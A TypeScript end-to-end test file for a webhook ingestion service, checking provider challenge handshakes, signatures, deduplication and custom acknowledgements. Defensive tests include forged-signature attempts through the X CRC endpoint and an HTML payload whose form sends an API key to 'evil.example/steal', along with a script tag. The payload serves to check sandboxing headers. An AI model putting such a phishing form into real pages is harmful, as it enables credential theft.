// Issue 3, end to end: every challenge handshake answered over HTTP exactly as its provider requires (status,
// content type, body) and storing no event; signed challenges refused when unsigned; and the acknowledgements
// providers expect instead of 200 {eventId} (Graph 202, Discord interaction replies, a source's own response).
import { createHmac, sign } from 'node:crypto';
import { sign as octokitSign } from '@octokit/webhooks-methods';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.js';
import {
  createSource,
  deliver,
  eventCount,
  metricValue,
  storedEvent,
  type Delivered,
  type Delivery,
} from '../helpers/ingest.js';
import { ed25519Keys } from '../ingest/fixtures.js';

const JSON_CT = { 'content-type': 'application/json' };
const nowSeconds = () => Math.floor(Date.now() / 1000);
const hmac = (key: string, data: string, enc: 'hex' | 'base64') =>
  createHmac('sha256', key).update(data).digest(enc);
const SECRET = 'handshake-secret-0123456789';

describe('provider handshakes over HTTP (SQLite)', () => {
  let t: TestApp;
  const discord = ed25519Keys();

  beforeAll(async () => {
    t = await startTestApp('sqlite');
    for (const provider of ['slack', 'zoom', 'twitch', 'dropbox', 'x', 'woocommerce', 'github']) {
      await createSource(t, { slug: provider, provider, secret: SECRET });
    }
    await createSource(t, {
      slug: 'meta',
      provider: 'meta',
      secret: SECRET,
      options: { verifyToken: 'meta-verify-token' },
    });
    await createSource(t, { slug: 'graph', provider: 'microsoft-graph', secret: SECRET });
    await createSource(t, { slug: 'discord', provider: 'discord', secret: discord.publicHex });
  });
  afterAll(async () => t?.close());

  /** Delivers `d` and checks that nothing was stored because of it. */
  async function handshake(slug: string, d: Delivery): Promise<Delivered> {
    const before = await eventCount(t);
    const res = await deliver(t, slug, d);
    expect(await eventCount(t), `${slug}: a handshake stores no event`).toBe(before);
    return res;
  }
  const expectText = (res: Delivered, body: string) => {
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.text).toBe(body);
  };

  it('Slack url_verification: a signed challenge is echoed as JSON; an unsigned one is refused', async () => {
    const body =
      '{"token":"Jhj5dZrVaK7ZwHHjRyZWjbDl","challenge":"3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P","type":"url_verification"}';
    const ts = String(nowSeconds());
    const headers = {
      ...JSON_CT,
      'x-slack-request-timestamp': ts,
      'x-slack-signature': `v0=${hmac(SECRET, `v0:${ts}:${body}`, 'hex')}`,
    };
    const res = await handshake('slack', { headers, body });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json(; charset=utf-8)?$/);
    expect(res.json).toEqual({ challenge: '3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P' });
    expect((await handshake('slack', { headers: JSON_CT, body })).status).toBe(401);
  });

  it('Slack ssl_check: the unsigned form POST gets 200 and nothing else', async () => {
    const res = await handshake('slack', {
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'ssl_check=1&token=Jhj5dZrVaK7ZwHHjRyZWjbDl',
    });
    expect(res.status).toBe(200);
    expect(res.text).toBe('');
    // Anything else unsigned is still refused.
    const other = await handshake('slack', {
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'command=%2Fdeploy',
    });
    expect(other.status).toBe(401);
  });

  it('Meta: GET hub.challenge is echoed as text when hub.verify_token matches, else 403', async () => {
    const ok = await handshake('meta', {
      method: 'GET',
      suffix: '?hub.mode=subscribe&hub.challenge=1158201444&hub.verify_token=meta-verify-token',
    });
    expectText(ok, '1158201444');
    const wrong = await handshake('meta', {
      method: 'GET',
      suffix: '?hub.mode=subscribe&hub.challenge=1158201444&hub.verify_token=guess',
    });
    expect(wrong.status).toBe(403);
    expect(wrong.text).not.toContain('1158201444');
  });

  it('Zoom endpoint.url_validation: {plainToken, encryptedToken = hex HMAC-SHA256(secret, plainToken)}', async () => {
    const body =
      '{"payload":{"plainToken":"qgg8vlvZRS6UYooatFL8Aw"},"event_ts":1654503849680,"event":"endpoint.url_validation"}';
    const ts = String(nowSeconds());
    const headers = {
      ...JSON_CT,
      'x-zm-request-timestamp': ts,
      'x-zm-signature': `v0=${hmac(SECRET, `v0:${ts}:${body}`, 'hex')}`,
    };
    const res = await handshake('zoom', { headers, body });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json(; charset=utf-8)?$/);
    expect(res.json).toEqual({
      plainToken: 'qgg8vlvZRS6UYooatFL8Aw',
      encryptedToken: hmac(SECRET, 'qgg8vlvZRS6UYooatFL8Aw', 'hex'),
    });
    // Unsigned, it would be a signing oracle: refused.
    expect((await handshake('zoom', { headers: JSON_CT, body })).status).toBe(401);
  });

  it('Twitch webhook_callback_verification: the challenge as text/plain', async () => {
    const body =
      '{"challenge":"pogchamp-kappa-360noscope-vohiyo","subscription":{"id":"f1c2a387","type":"channel.follow"}}';
    const id = 'e76c6bd4-55c9-4987-8304-da1588d8988b';
    const ts = new Date().toISOString();
    const res = await handshake('twitch', {
      headers: {
        ...JSON_CT,
        'twitch-eventsub-message-id': id,
        'twitch-eventsub-message-timestamp': ts,
        'twitch-eventsub-message-type': 'webhook_callback_verification',
        'twitch-eventsub-message-signature': `sha256=${hmac(SECRET, id + ts + body, 'hex')}`,
      },
      body,
    });
    expectText(res, 'pogchamp-kappa-360noscope-vohiyo');
  });

  it('Microsoft Graph validationToken: the URL-decoded token as text/plain', async () => {
    const token = 'Validation: Testing client application reachability for subscription Request-Id: 7a2c';
    const res = await handshake('graph', {
      headers: { 'content-type': 'text/plain; charset=utf-8' },
      suffix: `?validationToken=${encodeURIComponent(token)}`,
    });
    expectText(res, token);
    // Graph encodes spaces as '+' as well.
    const plus = await handshake('graph', { suffix: '?validationToken=Validation%3a+Testing+client' });
    expectText(plus, 'Validation: Testing client');
  });

  it('Discord: a signed interaction PING gets {"type":1}; an unsigned one 401; a webhook-event PING 204', async () => {
    const signed = (body: string) => {
      const ts = String(nowSeconds());
      return {
        headers: {
          ...JSON_CT,
          'x-signature-timestamp': ts,
          'x-signature-ed25519': sign(null, Buffer.from(ts + body), discord.privatePem).toString('hex'),
        },
        body,
      };
    };
    const ping = await handshake('discord', signed('{"id":"1","application_id":"2","type":1,"version":1}'));
    expect(ping.status).toBe(200);
    expect(ping.headers.get('content-type')).toMatch(/^application\/json(; charset=utf-8)?$/);
    expect(ping.json).toEqual({ type: 1 });
    expect((await handshake('discord', { headers: JSON_CT, body: '{"type":1}' })).status).toBe(401);
    const eventPing = await handshake('discord', signed('{"version":1,"application_id":"2","type":0}'));
    expect(eventPing.status).toBe(204);
    expect(eventPing.text).toBe('');
  });

  it('Dropbox: GET ?challenge= echoed as text/plain with nosniff', async () => {
    expectText(
      await handshake('dropbox', { method: 'GET', suffix: '?challenge=W4p9Gb1kYpLkYt0uLmZq' }),
      'W4p9Gb1kYpLkYt0uLmZq',
    );
  });

  it('X CRC: GET ?crc_token= answered with sha256=base64 HMAC of the token under the consumer secret', async () => {
    const res = await handshake('x', { method: 'GET', suffix: '?crc_token=9f3b2c1d-crc-Token' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json(; charset=utf-8)?$/);
    expect(res.json).toEqual({ response_token: `sha256=${hmac(SECRET, '9f3b2c1d-crc-Token', 'base64')}` });
    // Only token-shaped values: a JSON body cannot be signed through the CRC.
    expect(
      (await handshake('x', { method: 'GET', suffix: `?crc_token=${encodeURIComponent('{"a":1}')}` })).status,
    ).toBe(400);
    // Token-shaped strings can still be bodies (a form field, text, a JSON number): a signature obtained through the
    // CRC must not make them events. The X source takes JSON objects only.
    for (const [token, contentType] of [
      ['direct_message_events=forged', 'application/x-www-form-urlencoded'],
      ['12345678e0', 'application/json'],
      ['forged-text-body', 'text/plain'],
    ] as const) {
      const crc = await handshake('x', { method: 'GET', suffix: `?crc_token=${encodeURIComponent(token)}` });
      expect(crc.status, token).toBe(200);
      const forged = await handshake('x', {
        headers: {
          'content-type': contentType,
          'x-twitter-webhooks-signature': (crc.json as { response_token: string }).response_token,
        },
        body: token,
      });
      expect(forged.status, token).toBe(401);
    }
    // A real delivery (a signed JSON object) is still accepted.
    const body = '{"for_user_id":"1","favorite_events":[{"id":"f1"}]}';
    const real = await deliver(t, 'x', {
      headers: {
        'content-type': 'application/json',
        'x-twitter-webhooks-signature': `sha256=${hmac(SECRET, body, 'base64')}`,
      },
      body,
    });
    expect(real.status, real.text).toBe(200);
  });

  it('WooCommerce: the unsigned webhook_id ping on save gets 200 and is not stored', async () => {
    const res = await handshake('woocommerce', {
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'webhook_id=42',
    });
    expect(res.status).toBe(200);
  });

  it('a GET that is no handshake is 405; so is DELETE; each counted as method_not_allowed', async () => {
    const refused = (source: string) =>
      metricValue(t, 'eventhook_webhooks_rejected_total', { source, reason: 'method_not_allowed' });
    const before = { github: await refused('github'), dropbox: await refused('dropbox') };
    expect((await handshake('github', { method: 'GET' })).status).toBe(405);
    expect((await handshake('dropbox', { method: 'GET' })).status).toBe(405);
    expect((await handshake('github', { method: 'DELETE' })).status).toBe(405);
    expect(await refused('github')).toBe(before.github + 2);
    expect(await refused('dropbox')).toBe(before.dropbox + 1);
  });
});

describe('acknowledgements providers expect (SQLite)', () => {
  let t: TestApp;
  const keys = ed25519Keys();
  const discordRequest = (body: string): Delivery => {
    const ts = String(nowSeconds());
    return {
      headers: {
        ...JSON_CT,
        'x-signature-timestamp': ts,
        'x-signature-ed25519': sign(null, Buffer.from(ts + body), keys.privatePem).toString('hex'),
      },
      body,
    };
  };

  beforeAll(async () => {
    t = await startTestApp('sqlite');
  });
  afterAll(async () => t?.close());

  it('Discord interactions get a deferred reply, webhook events 204; each is stored', async () => {
    await createSource(t, { slug: 'discord', provider: 'discord', secret: keys.publicHex });
    const cases: [string, number, unknown][] = [
      ['{"id":"10","type":2,"guild_id":"7","data":{"name":"deploy"}}', 200, { type: 5 }],
      ['{"id":"11","type":3,"guild_id":"7","data":{"custom_id":"ok"}}', 200, { type: 6 }],
      ['{"id":"12","type":5,"guild_id":"7","data":{"custom_id":"modal"}}', 200, { type: 5 }],
      [
        '{"id":"13","type":4,"guild_id":"7","data":{"name":"deploy"}}',
        200,
        { type: 8, data: { choices: [] } },
      ],
      [
        '{"version":1,"application_id":"2","type":1,"event":{"type":"APPLICATION_AUTHORIZED","data":{}}}',
        204,
        undefined,
      ],
    ];
    for (const [body, status, reply] of cases) {
      const res = await deliver(t, 'discord', discordRequest(body));
      expect(res.status, body).toBe(status);
      expect(res.json).toEqual(reply);
      const id = res.headers.get('eventhook-event-id');
      expect(id, body).toMatch(/^evt_/);
      expect((await storedEvent(t, id!)).rawBody?.toString()).toBe(body);
    }
  });

  it('Discord webhook events (no top-level id) are deduplicated on their exact bytes; interactions on their id', async () => {
    await createSource(t, { slug: 'discord-events', provider: 'discord', secret: keys.publicHex });
    const event = (user: string) =>
      JSON.stringify({
        version: 1,
        application_id: '2',
        type: 1,
        event: {
          type: 'APPLICATION_AUTHORIZED',
          timestamp: '2026-12-07T10:00:00.000000+00:00',
          data: { user: { id: user }, scopes: ['applications.commands'] },
        },
      });
    const first = await deliver(t, 'discord-events', discordRequest(event('u1')));
    expect(first.status).toBe(204);
    const id = first.headers.get('eventhook-event-id');
    expect((await storedEvent(t, id!)).idempotencyKey).toMatch(/^sha256:[0-9a-f]{64}$/);
    // Discord's retry: the same body, signed again.
    const retry = await deliver(t, 'discord-events', discordRequest(event('u1')));
    expect(retry.status).toBe(204);
    expect(retry.headers.get('eventhook-event-id')).toBe(id);
    const other = await deliver(t, 'discord-events', discordRequest(event('u2')));
    expect(other.headers.get('eventhook-event-id')).not.toBe(id);
    // An interaction keeps its id as its key.
    const interaction = await deliver(
      t,
      'discord-events',
      discordRequest('{"id":"20","type":2,"guild_id":"7","data":{"name":"deploy"}}'),
    );
    expect((await storedEvent(t, interaction.headers.get('eventhook-event-id')!)).idempotencyKey).toBe('20');
  });

  it('a source’s own response: status, body with {{eventId}}, content type; the same for a duplicate', async () => {
    const secret = 'custom-response-secret';
    await createSource(t, {
      slug: 'custom',
      provider: 'github',
      secret,
      response: { status: 202, body: '{"received":true,"id":"{{eventId}}"}' },
    });
    const body = '{"zen":"Design for failure."}';
    const d: Delivery = {
      headers: {
        ...JSON_CT,
        'x-github-event': 'ping',
        'x-github-delivery': 'd-1',
        'x-hub-signature-256': await octokitSign(secret, body),
      },
      body,
    };
    const res = await deliver(t, 'custom', d);
    expect(res.status).toBe(202);
    expect(res.headers.get('content-type')).toMatch(/^application\/json(; charset=utf-8)?$/);
    const id = res.headers.get('eventhook-event-id');
    expect(res.json).toEqual({ received: true, id });
    const again = await deliver(t, 'custom', d);
    expect(again.status).toBe(202);
    expect(again.json).toEqual({ received: true, id });

    // A text reply, a 204, and a PATCH that overrides a provider's default (Discord's deferred reply).
    expect(
      (
        await t.api.patch('/api/orgs/default/eventhook/sources/custom', {
          response: { status: 200, body: 'thanks' },
        })
      ).status,
    ).toBe(200);
    const text = await deliver(t, 'custom', { ...d, headers: { ...d.headers, 'x-github-delivery': 'd-2' } });
    expect([text.status, text.headers.get('content-type'), text.text]).toEqual([
      200,
      'text/plain; charset=utf-8',
      'thanks',
    ]);
    await t.api.patch('/api/orgs/default/eventhook/sources/custom', { response: { status: 204 } });
    const empty = await deliver(t, 'custom', { ...d, headers: { ...d.headers, 'x-github-delivery': 'd-3' } });
    expect([empty.status, empty.text]).toEqual([204, '']);
    await t.api.patch('/api/orgs/default/eventhook/sources/discord', {
      response: { body: '{"type":4,"data":{"content":"on it"}}' },
    });
    const direct = await deliver(
      t,
      'discord',
      discordRequest('{"id":"20","type":2,"guild_id":"7","data":{"name":"deploy"}}'),
    );
    expect(direct.json).toEqual({ type: 4, data: { content: 'on it' } });
    // null removes the setting: back to the provider's default.
    const removed = await t.api.patch('/api/orgs/default/eventhook/sources/discord', { response: null });
    expect(removed.status).toBe(200);
    expect(removed.body.response).toBeUndefined();
    const deferred = await deliver(
      t,
      'discord',
      discordRequest('{"id":"21","type":2,"guild_id":"7","data":{"name":"deploy"}}'),
    );
    expect(deferred.json).toEqual({ type: 5 });
  });

  it('whatever a source answers runs no script on Eventhook’s origin, the console’s: sandboxed, never sniffed', async () => {
    // A tenant's admin chooses the answer; anyone's browser can be made to POST a form to the ingest URL.
    await createSource(t, {
      slug: 'page',
      verifier: { type: 'none' },
      response: {
        contentType: 'text/html',
        body: '<form action="https://evil.example/steal"><input name="key" placeholder="API key"></form><script>alert(1)</script>',
      },
    });
    const form = { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1' };
    const page = await deliver(t, 'page', form);
    expect([page.status, page.headers.get('content-type')]).toEqual([200, 'text/html']);
    const handshake = await deliver(t, 'page', { method: 'GET' });
    const refused = await deliver(t, 'nope', form);
    for (const res of [page, handshake, refused]) {
      const csp = res.headers.get('content-security-policy') ?? '';
      // A sandbox without allow-scripts and allow-forms: an opaque origin, no script, no form sent anywhere.
      expect(csp.split(/;\s*/)).toEqual(expect.arrayContaining(["default-src 'none'", 'sandbox']));
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('refuses responses that would not acknowledge (non-2xx) at save time', async () => {
    const res = await t.api.post('/api/orgs/default/eventhook/sources', {
      slug: 'bad-response',
      provider: 'github',
      secret: 's',
      response: { status: 302 },
    });
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body)).toContain('response/status');
  });
});
